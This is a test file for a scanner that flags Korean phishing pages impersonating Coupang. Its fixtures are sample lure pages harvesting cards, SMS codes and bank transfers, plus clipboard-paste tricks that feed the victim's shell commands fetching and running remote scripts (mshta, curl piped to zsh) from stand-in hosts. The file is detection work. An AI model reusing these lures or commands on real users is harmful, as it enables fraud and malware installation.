import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { pageMayConcernBrand, scanPage } from '../../lib/page/index';
import { parse } from './helpers';

/**
 * Author U's half (tune-u, scored once after page20: Chromium 96/111 caught, 2/111 flagged), taken by class with
 * pages written apart from it; next to each kit an honest page of the same shape, which stays clean.
 */
const page = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url = 'https://x.example/p') =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });
const verdict = (html: string, url?: string) => scan(html, url).verdict;
const svg = (lines: string[]) =>
  `data:image/svg+xml;base64,${Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="320" height="${lines.length * 26 + 10}">${lines
      .map((l, i) => `<text x="160" y="${i * 26 + 24}" text-anchor="middle">${l}</text>`)
      .join('')}</svg>`,
  ).toString('base64')}`;

describe("author U's kits", () => {
  it('reads the boxes a script makes from a list of labels after a click, before the click', () => {
    const kit = page(
      '주문 확인',
      '<div class="logo">쿠팡</div><h2>주문하신 상품 재발송</h2><p>재발송을 위해 결제 확인이 필요합니다.</p>' +
        '<div id="w"></div><button id="go">다음</button>' +
        `<script>document.getElementById('go').onclick=function(){var w=document.getElementById('w');` +
        `['\\uce74\\ub4dc \\ubc88\\ud638','\\ub9cc\\ub8cc\\uc77c','\\ubcf4\\uc548\\ucf54\\ub4dc(CVC)'].forEach(function(t){` +
        `var e=document.createElement('input');e.placeholder=t;w.appendChild(e);});};</script>`,
    );
    const r = scan(kit, 'https://resend-cp.example/o');
    expect(r.verdict).toBe('suspicious-page');
    expect(r.reasons.map((x) => x.code)).toContain('asks-card');
    // (… or a wizard that writes one input a step, its labels kept in a list)
    const wizard = page(
      '결제 확인',
      '<div class="logo">쿠팡</div><h2>소액결제 본인확인</h2><div id="z"></div>' +
        `<script>var steps=[['통신사','SKT/KT/LGU+'],['휴대폰 번호','010'],['생년월일 6자리',''],['SMS 인증번호','']],i=0;` +
        `function next(){document.getElementById('z').innerHTML='<label>'+steps[i][0]+'</label><input placeholder="'+steps[i][1]+'">';}next();</script>`,
    );
    expect(verdict(wizard, 'https://mpay.example/s')).toBe('suspicious-page');
    // a shop of its own building its checkout the same way, and a page whose script lists words but makes no box
    const shop = page(
      '하루마켓 주문서',
      '<div class="logo">하루마켓</div><h2>주문서 작성</h2><div id="w"></div>' +
        `<script>['받는 분','휴대폰','주소'].forEach(function(t){var e=document.createElement('input');e.placeholder=t;document.getElementById('w').appendChild(e);});</script>` +
        '<p>쿠팡·11번가에서도 판매 중인 상품입니다.</p>',
    );
    expect(verdict(shop, 'https://harumarket.example/order')).toBe('clean');
    const news = page(
      '쿠팡 사칭 문자 주의 - 한빛일보',
      '<div class="logo">한빛일보</div><h1>"카드번호 입력하라" 쿠팡 사칭 문자 주의</h1>' +
        `<p>사기범들은 카드번호와 CVC를 입력하게 합니다.</p><script>var tags=['카드번호','CVC','쿠팡'];console.log(tags.length);</script>`,
    );
    expect(verdict(news, 'https://hanbit-news.example/a/1')).toBe('clean');
  });

  it("puts back a name whose letters a stylesheet's flex box orders", () => {
    const kit = page(
      '결제 알림',
      '<style>.n{display:inline-flex}</style><div><span class="n"><b style="order:3">팡</b><b style="order:1">쿠</b></span> 결제 알림</div>' +
        '<h3>해외 결제 승인 $912.00</h3><p>본인이 결제하지 않았다면 즉시 전화 주세요.</p><a href="tel:0262001234">결제 취소 상담 02-6200-1234</a>',
    );
    const r = scan(kit, 'https://pay-alert.example/');
    expect(r.verdict).toBe('suspicious-page');
    expect(r.reasons.find((x) => x.code === 'brand-obfuscated')?.evidence).toBe('쿠팡');
    // the same notice from a card company with a name of its own and no reordered letters
    const card = page(
      '한울카드 결제 알림',
      '<div class="logo">한울카드</div><h3>해외 결제 승인 $912.00</h3><p>쿠팡 결제가 아니라면 고객센터로 전화 주세요.</p><a href="tel:15880000">한울카드 고객센터 1588-0000</a>',
    );
    expect(verdict(card, 'https://hanulcard.example/alert')).toBe('clean');
  });

  it('reads the first line of a picture of text at the top of a page with no heading as its heading', () => {
    const kit = page(
      '안내',
      `<img src="${svg(['[쿠팡] 결제보호센터', '해외 결제 승인 USD 879.00', '본인 결제가 아니면 아래에서 취소하세요'])}" alt="">` +
        '<form><input type="password" inputmode="numeric" placeholder="결제 비밀번호 6자리"><button>결제 취소</button></form>',
    );
    expect(verdict(kit, 'https://notice-77.example/')).toBe('suspicious-page');
    // a warning that shows the text as a picture under a heading of its own
    const warning = page(
      '사칭 문자 예시 - 소비자지킴이',
      `<h1>이런 문자는 사기입니다</h1><img src="${svg(['[쿠팡] 피해보상센터', '고객님 명의로 로켓와우 카드가 신청'])}" alt="">` +
        '<p>위와 같은 문자의 번호로 전화하지 마세요. 쿠팡 고객센터는 1577-7011입니다.</p>',
    );
    expect(verdict(warning, 'https://consumer-guard.example/tips/3')).toBe('clean');
  });

  it("counts the brand's desk for the errand as the page's heading, not the brand's warehouse", () => {
    const form =
      '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>본인 확인</button></form>';
    for (const desk of ['쿠팡 정산지원 데스크', '쿠팡 유출사고 조사팀'])
      expect(
        verdict(
          page('확인', `<h1>${desk}</h1><p>계정 보호를 위해 다시 로그인해 주세요.</p>${form}`),
          'https://sec-check.example/',
        ),
        desk,
      ).toBe('suspicious-page');
    // a warehouse is a place a page may be about: the heading is its subject (and a shift's form takes no card)
    const shift = page(
      '쿠팡 물류센터 단기 알바 - 일자리모아',
      '<div class="logo">일자리모아</div><h1>쿠팡 고양물류센터</h1><p>주간 단기 근무자 모집</p>' +
        '<form><input placeholder="이름"><input placeholder="휴대폰"><button>지원하기</button></form>',
    );
    expect(verdict(shift, 'https://jobmoa.example/post/3')).toBe('clean');
  });

  it('reads work from home under the brand as an offer, not a warehouse shift', () => {
    const kit = page(
      '재택 모집',
      '<h1>쿠팡 리뷰 도우미 (재택 부업)</h1><p>하루 30분, 상품 리뷰 작성으로 일 10만원.</p><a href="https://t.me/cp_review_mgr">텔레그램 담당자 연결</a>',
    );
    expect(verdict(kit, 'https://cpjob.example/')).toBe('suspicious-page');
    const post = page(
      '쿠팡 물류센터 야간 알바 후기',
      '<h1>쿠팡 물류센터 야간 알바 (일급 13만원)</h1><p>셔틀, 식사, 정산까지 정리했습니다.</p>' +
        '<form><input placeholder="이름"><input placeholder="휴대폰"><input placeholder="생년월일"><button>지원</button></form>',
    );
    expect(verdict(post, 'https://albaboard.example/p/9')).toBe('clean');
  });

  it("reads the brand's service painted on a canvas with its one word as its mark, not a chart's label", () => {
    const script = (label: string) =>
      `<canvas id="c"></canvas><script>var x=document.getElementById('c').getContext('2d');x.fillText('${label}',10,20);</script>`;
    const apk =
      '<p>새 버전을 설치해야 배정을 받을 수 있습니다.</p><a href="/d/eats_2.apk">최신 버전 설치</a>';
    expect(
      verdict(
        page('업데이트', script('Coupang Eats \\uD30C\\uD2B8\\uB108') + apk),
        'https://eats-up.example/',
      ),
    ).toBe('suspicious-page');
    expect(verdict(page('업데이트', script('쿠팡 주가 추이') + apk), 'https://stock-chart.example/')).toBe(
      'clean',
    );
  });

  it('reads a transfer to a "safe account" as the lure it is, and a warning about it as a warning', () => {
    const kit = page(
      '예금 보호 조치',
      '<div>금융감독원</div><p>쿠팡 개인정보 유출 사고와 관련하여 귀하 명의 계좌에서 부정 인출 시도가 있었습니다.</p>' +
        '<p>수사가 끝날 때까지 예금을 <b>국가안전계좌</b>로 이체하시면 전액 보호됩니다.</p>' +
        '<form><input placeholder="출금 은행"><input placeholder="계좌번호"><button>보호 신청</button></form>',
    );
    expect(verdict(kit, 'https://fss-guard.example/safe')).toBe('suspicious-page');
    const warning = page(
      '보이스피싱 예방 - 시민안전',
      '<h1>보이스피싱 예방 수칙</h1><p>쿠팡 유출 사고 이후 수사기관을 사칭한 전화가 늘었습니다.</p>' +
        '<p>금융감독원은 안전계좌로 이체하라고 요구하지 않습니다.</p><p>안전계좌 이체 요구는 모두 사기입니다.</p>',
    );
    expect(verdict(warning, 'https://civil-safe.example/tips')).toBe('clean');
  });

  it('reads gift-card codes pasted a line each as vouchers handed over for a refund', () => {
    const kit = page(
      '환불 안내',
      '<canvas id="c"></canvas><script>document.getElementById("c").getContext("2d").fillText("\\uCFE0\\uD321",0,20)</script>' +
        '<h3>환불 방법</h3><p>유출 관련 환불은 기프트카드로만 진행됩니다. 코드를 보내 주시면 환불금이 함께 입금됩니다.</p>' +
        '<textarea placeholder="기프트카드 PIN (한 줄에 하나)"></textarea><button>제출</button>',
    );
    expect(verdict(kit, 'https://gc-refund.example/')).toBe('suspicious-page');
    // a shop's question box about vouchers asks nothing
    const shop = page(
      '문의하기 - 하루마켓',
      '<div class="logo">하루마켓</div><h3>1:1 문의</h3><p>쿠팡에서 구매하신 상품의 환불은 쿠팡에서 진행됩니다.</p>' +
        '<textarea placeholder="상품권 관련 문의 내용"></textarea><button>보내기</button>',
    );
    expect(verdict(shop, 'https://harumarket.example/qna')).toBe('clean');
  });

  it("follows the reader to Telegram by its own link scheme, and to a channel's chat made the desk for a payout", () => {
    const vip = page(
      'VIP',
      '<style>.t::before{content:"쿠팡 공식 VIP"}</style><div class="logo t"></div><h2>미션방 입장</h2>' +
        '<p>로켓배송 구매 미션으로 하루 20만원.</p><a href="tg://resolve?domain=cp_mission_room">입장하기</a>',
    );
    expect(verdict(vip, 'https://vip-room.example/')).toBe('suspicious-page');
    const channel = page(
      '고객지원',
      '<h2>쿠팡 고객지원 채널</h2><p>피해보상 문의는 카카오톡 채널로 일원화되었습니다. 채널 추가 후 상담을 시작하세요.</p>' +
        `<a id="k">채널 추가</a><script>document.getElementById('k').href=atob('aHR0cHM6Ly9wZi5rYWthby5jb20vX3hBYmNkMS9jaGF0')</script>`,
    );
    expect(verdict(channel, 'https://cp-help.example/')).toBe('suspicious-page');
    // a shop's own channel for questions about its goods
    const shop = page(
      '하루마켓 고객센터',
      '<div class="logo">하루마켓</div><h2>고객센터</h2><p>쿠팡 주문 건도 상품 문의는 카카오톡 채널로 받습니다.</p>' +
        '<a href="https://pf.kakao.com/_haru/chat">채널 상담</a><form><input placeholder="주문번호"><input type="password" placeholder="비밀번호"></form>',
    );
    expect(verdict(shop, 'https://harumarket.example/cs')).toBe('clean');
  });

  it('reads a pasted command from character codes, and a Mac terminal fed a decoded blob, under the brand', () => {
    const codes = [...'cmd /c "echo ok" # Human verification 4821'].map((c) => c.charCodeAt(0)).join(',');
    const win = page(
      '로그인 오류',
      '<div class="logo">coupang</div><h2>로그인 오류</h2><p>인증서가 만료되었습니다.</p><button onclick="fx()">수정하기</button>' +
        '<ol><li>Win + R 로 실행 창을 엽니다</li><li>Ctrl + V 로 붙여넣습니다</li><li>Enter</li></ol>' +
        `<script>function fx(){navigator.clipboard.writeText(String.fromCharCode.apply(null,[${codes}]));}</script>`,
    );
    expect(verdict(win, 'https://cert-fix.example/')).toBe('suspicious-page');
    const mac = page(
      '정산서',
      '<div class="logo">쿠팡 윙</div><h2>정산서 보기</h2><p>보안 뷰어를 켜야 정산서를 열 수 있습니다.</p><button onclick="m()">코드 복사</button>' +
        '<p>1. 터미널을 엽니다 2. ⌘ + V 로 붙여넣기 3. Return</p>' +
        `<script>function m(){navigator.clipboard.writeText('echo "ZWNobyBoaQ==" | base64 -d');}</script>`,
    );
    expect(verdict(mac, 'https://wing-doc.example/v')).toBe('suspicious-page');
    // a developer's guide with a copy button for its install line
    const docs = page(
      'coupang-openapi 설치 - 개발 노트',
      '<div class="logo">개발 노트</div><h2>coupang-openapi 설치</h2><p>터미널에 붙여넣어 설치하세요 (⌘ + V).</p>' +
        '<pre>pip install coupang-openapi</pre><button onclick="navigator.clipboard.writeText(\'pip install coupang-openapi\')">복사</button>',
    );
    expect(verdict(docs, 'https://devnote.example/coupang-openapi')).toBe('clean');
  });

  it('reads an errand said to be possible on the phone only, with a code to scan, as a hand-off', () => {
    const kit = page(
      '쿠팡 배송 확인',
      '<div class="logo">coupang</div><h2>배송지 확인 필요</h2><p>보안을 위해 배송지 확인은 휴대폰에서만 가능합니다. 휴대폰 카메라로 아래 QR 코드를 스캔해 주세요.</p>' +
        '<canvas id="qr" width="160" height="160"></canvas>',
    );
    expect(verdict(kit, 'https://cp-scan.example/')).toBe('suspicious-page');
  });
});

describe("author U's honest pages", () => {
  it("reads a company line's 상호 as its owner, whatever else the line names", () => {
    const login =
      '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>로그인</button></form>';
    const mall = page(
      '로그인 - 봄날상점',
      `<h2>회원 로그인</h2>${login}<footer><p>상호 봄날상점 · 통신판매업 2022-서울성동-0000 · 쿠팡·네이버에서도 판매 중인 공식 스토어입니다.</p></footer>`,
    );
    expect(verdict(mall, 'https://bomnal.example/member/login')).toBe('clean');
    // the brand's own name after 상호 is the brand's line, copied
    const kit = page(
      '로그인',
      `<h2>회원 로그인</h2>${login}<footer><p>상호 쿠팡(주) · 대표이사 김범석 · 통신판매업 2014-서울송파-0000</p></footer>`,
    );
    expect(verdict(kit, 'https://member-cp.example/login')).toBe('suspicious-page');
  });
});

describe("the red team's answers to page21 (/work/redteam21: each kit rewritten around one rule)", () => {
  it('reads labels a script keeps in objects, backticks or one string to split, not only in arrays', () => {
    const shell = (script: string) =>
      page(
        '결제 확인',
        `<div class="logo">쿠팡</div><h2>재결제 확인</h2><div id="w"></div><button id="b">다음</button><script>${script}</script>`,
      );
    const make = `function mk(t){var e=document.createElement('input');e.placeholder=t;document.getElementById('w').appendChild(e);}`;
    for (const script of [
      `var F={n:{label:'카드 번호'},e:{label:'유효기간'},c:{label:'CVC'}};document.getElementById('b').onclick=function(){for(var k in F)mk(F[k].label)};${make}`,
      `document.getElementById('b').onclick=function(){'이름,생년월일 6자리,휴대폰,SMS 인증번호'.split(',').forEach(mk)};${make}`,
      'document.getElementById("b").onclick=function(){[`카드 번호`,`유효기간`,`CVC`].forEach(mk)};' + make,
    ])
      expect(verdict(shell(script), 'https://re-pay.example/'), script.slice(0, 60)).toBe('suspicious-page');
  });

  it("puts back letters a stylesheet's classes order, and reads a picture's lines set as <tspan>s", () => {
    const ordered = page(
      '결제 알림',
      '<style>.r{display:inline-flex}.o1{order:1}.o2{order:2}</style><div><span class="r"><b class="o2">팡</b><b class="o1">쿠</b></span> 결제 알림</div>' +
        '<p>해외 결제가 승인되었습니다. 본인이 아니면 전화 주세요.</p><a href="tel:0262001234">02-6200-1234</a>',
    );
    expect(verdict(ordered, 'https://pay-alert.example/')).toBe('suspicious-page');
    const lines = ['[쿠팡] 결제보호센터', '해외 결제 승인 USD 879.00', '본인 결제가 아니면 취소하세요'];
    const spans = `data:image/svg+xml;base64,${Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg"><text x="10" y="20">${lines
        .map((l, i) => `<tspan x="10" dy="${i ? 24 : 0}">${l}</tspan>`)
        .join('')}</text></svg>`,
    ).toString('base64')}`;
    const kit = page(
      '안내',
      `<img src="${spans}" alt=""><form><input type="password" placeholder="결제 비밀번호 6자리"><button>결제 취소</button></form>`,
    );
    expect(verdict(kit, 'https://notice-pay.example/')).toBe('suspicious-page');
    // a card-news page that quotes the scam's text as its picture, with its warning under the quote
    const news = page(
      '카드뉴스',
      `<img src="${svg(['[쿠팡] 피해보상센터', '고객님 명의로 카드가 신청되었습니다', '↑ 이런 문자, 전화하지 마세요'])}" alt="">` +
        '<p>사기 문자로 돈을 보냈다면 즉시 신고해 주세요.</p><form><input placeholder="상대방 계좌번호"><input placeholder="연락처"><button>피해 신고</button></form>' +
        '<p>ⓒ 경찰청 사이버수사국</p>',
    );
    expect(verdict(news, 'https://police-cardnews.example/n/1')).toBe('clean');
  });

  it('reads other names for the safe account, and the transfer asked in the next sentence; not an escrow', () => {
    const kit = (words: string) =>
      page(
        '예금 보호',
        `<div>금융감독원</div><p>쿠팡 유출 사고로 귀하 명의 계좌에서 부정 인출 시도가 확인되었습니다.</p><p>${words}</p>` +
          '<form><input placeholder="은행"><input placeholder="계좌번호"><button>신청</button></form>',
      );
    expect(
      verdict(kit('예금을 금감원 지정 임시 관리계좌로 옮겨 두시면 보호됩니다.'), 'https://fss-p.example/'),
    ).toBe('suspicious-page');
    expect(
      verdict(
        kit('국가안전계좌 안내. 수사 종료까지 예금 전액을 위 계좌로 이체해 주세요.'),
        'https://fss-p.example/',
      ),
    ).toBe('suspicious-page');
    const escrow = page(
      '안전거래 안내',
      '<h2>안전거래 이용 방법</h2><p>쿠팡 중고 거래처럼 개인 간 거래에서는 판매자 개인 계좌가 아닌 안전계좌로 입금하세요.</p>' +
        '<form><input placeholder="환불받을 계좌번호"><button>등록</button></form>',
    );
    expect(verdict(escrow, 'https://safe-trade.example/guide')).toBe('clean');
  });

  it("follows a channel's host joined from pieces, a Kakao open profile and Telegram's other actions", () => {
    const desk =
      '<h2>쿠팡 고객지원 채널</h2><p>피해보상 문의는 카카오톡 채널에서만 받습니다. 채널 추가 후 상담을 시작하세요.</p>';
    const joined = page(
      '고객지원',
      `${desk}<a id="k">채널 추가</a><script>var h=location.protocol+'//pf.'+'kakao.com';document.getElementById('k').href=h+'/%5FxAbcd1/chat';</script>`,
    );
    expect(verdict(joined, 'https://cp-help.example/')).toBe('suspicious-page');
    for (const href of ['https://open.kakao.com/me/cp_refund_desk', 'tg://msg?to=cp_refund_desk'])
      expect(
        verdict(page('고객지원', `${desk}<a href="${href}">상담 시작</a>`), 'https://cp-help.example/'),
        href,
      ).toBe('suspicious-page');
  });

  it('reads a pasted command stored in hex or reversed, a shell fed curl, and base64 called by its path', () => {
    const shell = (
      script: string,
      steps = '<ol><li>Win + R 로 실행 창을 엽니다</li><li>Ctrl + V 로 붙여넣기</li><li>Enter</li></ol>',
    ) =>
      page(
        '인증 오류',
        `<div class="logo">쿠팡</div><h2>로그인 인증 오류</h2><button onclick="c()">복사</button>${steps}<script>${script}</script>`,
      );
    const hex = Buffer.from('cmd /c echo ok # Human verification 1234').toString('hex');
    expect(
      verdict(
        shell(
          `function c(){navigator.clipboard.writeText('${hex}'.match(/../g).map(function(h){return String.fromCharCode(parseInt(h,16))}).join(''))}`,
        ),
        'https://cert-err.example/',
      ),
    ).toBe('suspicious-page');
    const reversed = [...'mshta https://x.example/a.hta # Human verification'].reverse().join('');
    expect(
      verdict(
        shell(`function c(){navigator.clipboard.writeText('${reversed}'.split('').reverse().join(''))}`),
        'https://cert-err.example/',
      ),
    ).toBe('suspicious-page');
    const mac = '<p>1. Spotlight에서 "터미널"을 엽니다 2. ⌘ + V 로 붙여넣습니다 3. Return</p>';
    expect(
      verdict(
        shell(
          `function c(){navigator.clipboard.writeText('/bin/zsh -c "$(curl -fsSL https://x.example/i.sh)"')}`,
          mac,
        ),
        'https://wing-view.example/',
      ),
    ).toBe('suspicious-page');
    expect(
      verdict(
        shell(
          `function c(){navigator.clipboard.writeText('echo ZWNobw== | /usr/bin/base64 -D | /bin/zsh')}`,
          mac,
        ),
        'https://wing-view.example/',
      ),
    ).toBe('suspicious-page');
  });

  it('reads a voucher box by its words, a desk named 실 or 단, and work with no commute', () => {
    const gift = page(
      '환불 안내',
      '<div class="logo">쿠팡 고객센터</div><h3>환불 방법</h3><p>유출 관련 환불은 기프트카드로만 진행됩니다. 환불금은 확인 후 입금됩니다.</p>' +
        '<textarea placeholder="구글플레이 기프트카드 (여러 장은 줄바꿈)"></textarea><button>제출</button>',
    );
    expect(verdict(gift, 'https://gc-refund.example/')).toBe('suspicious-page');
    const login =
      '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>확인</button></form>';
    expect(
      verdict(
        page('확인', `<h1>쿠팡 유출사고 조사실</h1><p>다시 로그인해 주세요.</p>${login}`),
        'https://probe.example/',
      ),
    ).toBe('suspicious-page');
    const job = page(
      '모집',
      '<h1>쿠팡 상품평 도우미 (출퇴근 없음)</h1><p>하루 30분, 상품평 작성으로 일 10만원.</p><a href="tg://msg?to=cp_review">담당자 연결</a>',
    );
    expect(verdict(job, 'https://cp-review.example/')).toBe('suspicious-page');
  });

  it('reads the owner named after 상호 up to a bracket, not the seller channels in it', () => {
    const login =
      '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>로그인</button></form>';
    const mall = page(
      '로그인',
      `<h2>회원 로그인</h2>${login}<footer><p>상호 : 봄날상점(쿠팡 로켓그로스 입점 브랜드) · 통신판매업 2022-서울성동-0000</p></footer>`,
    );
    expect(verdict(mall, 'https://bomnal.example/member/login')).toBe('clean');
  });
});

describe("the gate on author U's picture of text", () => {
  it('reads a base64 SVG picture in Hangul as UTF-8, so a page whose only name is drawn there is scanned', () => {
    const drawn = (lines: string[]) =>
      parse(page('안내', `<img src="${svg(lines)}" alt=""><a href="tel:07011112222">☎ 070-1111-2222</a>`));
    expect(
      pageMayConcernBrand(
        drawn(['[쿠팡] 결제보호센터', '고객님 명의로 카드가 신청되었습니다']),
        'https://n.example/',
      ),
    ).toBe(true);
    // the same picture about something else keeps the gate shut
    expect(
      pageMayConcernBrand(drawn(['[하루마켓] 배송 안내', '오늘 출발합니다']), 'https://n.example/'),
    ).toBe(false);
  });
});
